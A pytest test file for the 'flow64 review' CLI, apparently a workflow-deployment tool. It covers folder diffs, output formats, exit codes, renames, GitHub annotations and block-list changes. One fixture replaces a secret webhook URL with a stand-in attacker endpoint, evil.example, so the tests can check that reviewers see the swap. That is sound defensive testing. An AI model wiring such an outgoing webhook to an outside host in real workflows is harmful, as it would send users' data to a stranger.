"""`flow64 review`, and findings for GitHub."""

from __future__ import annotations

import json
import re

import pytest

from flow64.cli import main
from tests.cli.conftest import LEADS
from tests.cli.pipelines import id_of

pytestmark = pytest.mark.unmeasured

CANARY = "raise SystemExit('code was run')\n"


@pytest.fixture
def folders(tmp_path, monkeypatch, flow64):
    """Committed JSON of a base and of a head that asks for one field more."""
    monkeypatch.chdir(tmp_path)
    more = LEADS.replace('"Job title"}', '"Job title", "seniority": "How senior"}')
    for name, text in (("base", LEADS), ("head", more)):
        (tmp_path / f"{name}.py").write_text(text, "utf-8")
        assert flow64("compile", f"{name}.py", "-o", name)[0] == 0
        (tmp_path / name / "canary.py").write_text(CANARY, "utf-8")
    return tmp_path


def test_folders(folders, flow64):
    """Two folders of JSON are compared; no code is run, and nothing is asked."""
    code, printed, told = flow64("review", "--base", "base", "--head", "head")

    assert (code, told) == (0, "")
    assert printed.startswith("asked of you:\n    approve the change\n")
    assert "\nwhat changes:\n    1 workflow will change (inbound)\n" in printed
    assert '+ return_fields.seniority: "How senior"' in printed
    assert "in inbound.json\n" in printed


@pytest.mark.parametrize(
    ("form", "start"),
    [
        ("text", "asked of you:\n    approve the change\n"),
        ("markdown", "<!-- flow64:review -->\n"),
        ("json", '{\n  "format_version": 1,\n  "source": "diff",\n'),
        ("html", "<!doctype html>\n"),
    ],
)
def test_formats(folders, flow64, form, start):
    """It is the same in each format, on stdout or in a file."""
    both = ("--base", "base", "--head", "head", "--format", form)
    code, printed, _ = flow64("review", *both)
    assert (code, printed.startswith(start)) == (0, True)

    code, nothing, told = flow64("review", *both, "-o", "out")
    assert (code, nothing, told) == (0, "", "written to out\n")
    assert (folders / "out").read_bytes() == printed.encode()


def test_json(folders, flow64):
    code, printed, _ = flow64("review", "--base", "base", "--head", "head", "--json")
    data = json.loads(printed)

    assert code == 0
    assert [(one["key"], one["state"]) for one in data["workflows"]] == [
        ("inbound", "update")
    ]


def test_exit_code(folders, flow64):
    """With `--exit-code`, changes exit with 2, and no changes with 0."""
    same = flow64("review", "--base", "base", "--head", "base", "--exit-code")
    other = flow64("review", "--base", "base", "--head", "head", "--exit-code")

    assert (same[0], other[0]) == (0, 2)
    assert same[1].startswith("what changes: nothing (1 of 1 unchanged)\n")


def test_empty_folder(folders, flow64):
    """With an empty base all is new; with an empty head all is gone."""
    (folders / "empty").mkdir()
    new = flow64("review", "--base", "empty", "--head", "head")
    gone = flow64("review", "--base", "base", "--head", "empty")

    assert "\nwhat changes: 1 workflow will be created (" in new[1]
    assert "\nwhat changes: 1 workflow is no longer in the code (" in gone[1]
    assert "in inbound.json\n" in gone[1]


def test_faulty_head(folders, flow64):
    """Errors of the head are shown, and do not stop the review."""
    file = folders / "head" / "inbound.json"
    data = json.loads(file.read_text("utf-8"))
    edges = data["workflow_definition"]["edges"]
    edges += [
        {"from_block_id": e["to_block_id"], "to_block_id": e["from_block_id"]}
        for e in edges
    ]
    file.write_text(json.dumps(data), "utf-8")
    (folders / "head" / "flow64.json").unlink(missing_ok=True)
    code, printed, _ = flow64("review", "--base", "base", "--head", "head")

    assert code == 0
    assert "new error in checks: " in printed


@pytest.mark.parametrize(
    "arguments",
    [
        ("--base", "base"),
        ("--head", "head"),
        ("--base", "base", "--head", "nowhere"),
        ("base", "--base", "base", "--head", "head"),
        ("--base", "base", "--head", "head", "--env", "default"),
        ("--base", "base", "--head", "head", "--format", "pdf"),
        (),
    ],
)
def test_usage(folders, flow64, arguments):
    """Contradicting options are a wrong command line."""
    assert flow64("review", *arguments)[0] == 64


def test_twice(folders, flow64):
    """Two of one name in a folder would hide one another."""
    for name in ("base", "head"):
        (folders / name / "flow64.json").unlink(missing_ok=True)
    deep = folders / "base" / "deep"
    deep.mkdir()
    data = json.loads((folders / "base" / "inbound.json").read_text("utf-8"))
    data["id"] = "11111111-1111-4111-8111-111111111111"
    (deep / "inbound.json").write_text(json.dumps(data), "utf-8")
    code, _, told = flow64("review", "--base", "base", "--head", "head")

    assert (code, "is there twice" in told) == (64, True)


def test_unwritable(folders, flow64):
    both = ("--base", "base", "--head", "head")
    code, _, told = flow64("review", *both, "-o", "no/such/folder")

    assert (code, "cannot be written" in told) == (1, True)


def test_plan(service, leads, flow64):
    """For a source it shows what a deploy would do, with reads alone."""
    service.requests.clear()
    code, printed, _ = flow64("review", "leads.py", "--format", "markdown")

    assert code == 0
    assert printed.startswith("<!-- flow64:review default -->\n")
    assert "- **what changes:** 1 workflow will be created (" in printed
    assert "in `leads.py`" in printed
    assert {request.method for request in service.requests} == {"GET"}


def test_plan_of_json(service, leads, flow64):
    """With --no-code the source is JSON, and nothing is imported."""
    assert flow64("compile", "leads.py", "-o", "out")[0] == 0
    code, printed, _ = flow64("review", "out", "--no-code")
    assert (code, "what changes: 1 workflow will be created" in printed) == (0, True)

    code, _, told = flow64("review", "leads.py", "--no-code")
    assert (code, "is Python" in told) == (64, True)


def test_plan_of_faulty_code(service, tmp_path, flow64):
    """Workflows with errors have no plan, so there is nothing to review."""
    (tmp_path / "bad.py").write_text(
        LEADS.replace("Webhook(LEAD,", "Webhook(COMPANY,").replace(
            "import LEAD", "import COMPANY, LEAD"
        ),
        "utf-8",
    )
    code, printed, told = flow64("review", "bad.py")

    assert (code, printed) == (1, "")
    assert "row-kind-mismatch" in told


# -- Findings for GitHub ---------------------------------------------------------------


def test_annotations(leads, flow64):
    """Findings are workflow commands, at the lines of the user's file."""
    code, printed, told = flow64("check", "leads.py", "--format", "github")

    assert code == 0
    assert [line.split(" ")[0] for line in printed.splitlines()] == ["::notice"] * 2
    assert "::notice file=leads.py,line=" in printed
    assert told == "2 notes\n"


def test_annotations_of_several(leads, flow64):
    """Each of several says which workflow it is about."""
    leads.write_text(leads.read_text("utf-8") + 'other = Workflow("Other", flow)\n')
    _, printed, told = flow64("check", "leads.py", "--format", "github")

    assert "::inbound: " in printed
    assert "::other: " in printed
    assert told.endswith("notes\n")


@pytest.mark.parametrize("form", ["text", "json"])
def test_other_formats(leads, flow64, form):
    """The other formats are what they were."""
    option = {"text": (), "json": ("--json",)}[form]

    assert flow64("check", "leads.py", "--format", form) == (
        flow64("check", "leads.py", *option)
    )


def test_one_format(leads, flow64):
    """Two formats at once are a mistake."""
    assert flow64("check", "leads.py", "--format", "github", "--json")[0] == 64
    assert flow64("check", "leads.py", "--format", "json", "--json")[0] == 0


def test_registered(capsys):
    assert main(["review", "--help"]) == 0
    assert "flow64 review --base" in capsys.readouterr().out


def test_options_are_those_of_a_deploy(service, leads, flow64):
    """The commands that a review names are whole, and take what they say."""
    flow64("deploy", "leads.py", "--yes")
    service.edit(id_of("leads.py"), name="By hand")

    _, printed, _ = flow64("review", "leads.py", "--format", "markdown")
    commands = re.findall("flow64 deploy .*", printed)

    assert commands == [
        "flow64 deploy leads.py --env default --force inbound",
        "flow64 deploy leads.py --env default --skip-drifted",
    ]
    for command in commands:
        assert flow64(*command.split()[1:], "--yes")[0] == 0


def test_renamed_with_was(folders, flow64, tmp_path):
    """Two folders show a workflow that kept its id as one, under its new key."""
    text = LEADS.replace('key="inbound"', 'key="signups", was="inbound"')
    (tmp_path / "renamed.py").write_text(text, "utf-8")
    flow64("compile", "renamed.py", "-o", "renamed")

    _, printed, _ = flow64("review", "--base", "base", "--head", "renamed")

    assert "what changes: inbound is renamed signups in the code" in printed
    assert (
        "· inbound → signups: has a new key in the code; on the service nothing changes"
        in printed
    )


def test_renamed_without_was(folders, flow64, tmp_path):
    """Two folders ask the same question as a service, with the argument to write."""
    text = LEADS.replace('key="inbound"', 'key="signups"')
    (tmp_path / "renamed.py").write_text(text, "utf-8")
    flow64("compile", "renamed.py", "-o", "renamed")

    _, printed, _ = flow64("review", "--base", "base", "--head", "renamed")

    assert (
        "\n! inbound → signups: may be a rename, or a second workflow; this stops"
        in printed
    )
    assert '        was="inbound"\n' in printed
    assert "        flow64 deploy --create signups\n" in printed


EVIL = "https://evil.example/x"


@pytest.fixture
def hooked(folders, flow64):
    """A head in which a text stands for the secret of the base."""
    flow = """OutgoingWebhook(url={url})
flow = flow >> last
"""
    code = LEADS.replace("Project, Workflow", "Project, Workflow, value").replace(
        "import LeadEnrichment", "import LeadEnrichment, OutgoingWebhook"
    )
    start, end = code.split("inbound = ")
    for name, url in (("base", 'value("hook", secret=True)'), ("head", f'"{EVIL}"')):
        text = f"{start}last = {flow.format(url=url)}inbound = {end}"
        (folders / f"{name}.py").write_text(text, "utf-8")
        assert flow64("compile", f"{name}.py", "-o", name)[0] == 0


@pytest.mark.parametrize("more", [(), ("--manifest", "base/flow64.json")])
@pytest.mark.parametrize("form", ["text", "markdown", "html", "json"])
@pytest.mark.usefixtures("hooked")
def test_text_in_place_of_a_secret(flow64, more, form):
    """A reviewer sees the text that a stranger puts in the place of a secret."""
    both = ("--base", "base", "--head", "head", "--format", form)
    code, printed, _ = flow64("review", *both, *more)

    assert code == 0
    assert EVIL in printed
    assert "posts to https://evil.example" in printed
    assert "nothing differs" not in printed


@pytest.mark.parametrize("more", [(), ("--json",)])
@pytest.mark.usefixtures("hooked")
def test_diff_of_a_text_in_place_of_a_secret(flow64, more):
    """So it is where two sources are compared."""
    code, printed, _ = flow64("diff", "base", "head", "--no-code", *more)

    assert code == 0
    assert EVIL in printed
    assert "posts to https://evil.example" in printed or '"https://evil' in printed


# -- The list of blocks ----------------------------------------------------------------

SETTINGS = '[tool.flow64]\nblocks = "lists/blocks.json"\n'


@pytest.fixture
def listed(folders):
    """Each of the folders in a project of its own, with a saved list of blocks."""
    lists = {"base": ["find_phone", "yc_batches"], "head": ["find_phone", "score_lead"]}
    for name, kinds in lists.items():
        project = folders / f"of_{name}"
        (project / "lists").mkdir(parents=True)
        (folders / name).rename(project / "compiled")
        (project / "pyproject.toml").write_text(SETTINGS, "utf-8")
        schema = {"properties": {name: {"type": "string"}}, "required": [name]}
        answer = [{"block_name": kind, "specs_schema": schema} for kind in kinds]
        text = json.dumps({"date": "2026-11-28", "blocks": answer})
        (project / "lists" / "blocks.json").write_text(text, "utf-8")
    return ("--base", "of_base/compiled", "--head", "of_head/compiled")


LISTED = """
List of blocks: 1 new, 1 changed, 1 gone
    new      score_lead
               head: str · required
    changed  find_phone
               head: new: str · required
               base: is gone
    gone     yc_batches

"""


def test_changed_list_of_blocks(listed, flow64):
    """A review of two revisions shows it, kind by kind."""
    code, printed, told = flow64("review", *listed)

    assert (code, told) == (0, "")
    assert LISTED in printed
    _, printed, _ = flow64("review", *listed, "--json")
    assert [
        (one["kind"], one["change"], len(one["fields"]))
        for one in json.loads(printed)["listed_kinds"]
    ] == [
        ("score_lead", "new", 1),
        ("find_phone", "changed", 2),
        ("yc_batches", "gone", 0),
    ]


@pytest.mark.parametrize("form", ["markdown", "html"])
def test_changed_list_of_blocks_in_a_page(listed, form, flow64):
    """The line is shown, and the kinds below it with a click."""
    _, printed, _ = flow64("review", *listed, "--format", form)

    title, *lines = LISTED.strip().splitlines()
    assert title in printed
    body = printed.partition(title)[2]
    assert "<summary>Kind by kind</summary>" in body
    assert all(line.removeprefix("    ") in body for line in lines)


def test_same_list_of_blocks(listed, flow64):
    """The order and the date of a list mean nothing, and are not shown."""
    base = "of_base/compiled"

    _, printed, _ = flow64("review", "--base", base, "--head", base)

    assert "list of blocks" not in printed.lower()


@pytest.mark.parametrize(("side", "word"), [("base", "new"), ("head", "gone")])
def test_list_of_blocks_on_one_side(listed, tmp_path, side, word, flow64):
    """The kinds of a first list are named, without their fields."""
    (tmp_path / f"of_{side}" / "lists" / "blocks.json").unlink()

    _, printed, _ = flow64("review", *listed)

    kinds = printed.partition(f"\nList of blocks: 2 {word}\n")[2]
    assert [line.split()[0] for line in kinds.splitlines()[:2]] == [word, word]
    assert kinds.splitlines()[2] == ""


def test_damaged_list_of_blocks(listed, tmp_path, flow64):
    """The review is made, and names what was not compared."""
    (tmp_path / "of_base" / "lists" / "blocks.json").write_text("[", "utf-8")

    code, printed, _ = flow64("review", *listed)

    assert code == 0
    assert "not checked" in printed
    assert "    the list of blocks: " in printed


def test_list_of_blocks_beside_an_untrusted_folder(listed, tmp_path, flow64):
    """A folder that is not trusted names no other file to read."""
    (tmp_path / "of_head" / "lists" / "blocks.json").write_text("[", "utf-8")
    manifest = ("--manifest", "of_base/compiled/flow64.json", "--no-code")

    code, printed, _ = flow64("review", *listed, *manifest)

    assert code == 0
    assert "list of blocks" not in printed.lower()
